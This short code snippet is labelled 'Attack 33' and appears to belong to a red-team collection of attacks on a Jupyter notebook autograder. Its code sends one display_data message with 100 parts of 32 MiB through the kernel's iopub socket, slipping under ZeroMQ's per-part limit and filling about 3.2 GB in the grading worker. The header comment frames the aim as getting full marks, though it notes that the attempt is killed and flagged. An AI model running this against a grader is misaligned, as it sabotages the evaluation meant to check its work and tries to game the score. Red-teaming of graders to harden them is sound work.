# Attack 33, one message of many parts: ZeroMQ checks its 64 MiB limit on each part, and
# takes a message in whole before the grader sees any of it: 100 parts of 32 MiB (one
# buffer, sent 100 times) held 3.2 GB in the grading worker.
# Why: full marks: the honest equivalent is the solution; the kernel is killed once the
#   grader's memory has grown by 512 MiB (flagged), after every graded cell ran.
# ruff: noqa
# fmt: off
### AFTER em_plot
import time as _t
_k = get_ipython().kernel
_buf = bytearray(32 * 2**20)
_k.session.send(_k.iopub_socket, 'display_data', content={'data': {'text/plain': 'x'}, 'metadata': {}}, parent=_k.get_parent(), buffers=[memoryview(_buf)] * 100)
_t.sleep(20)
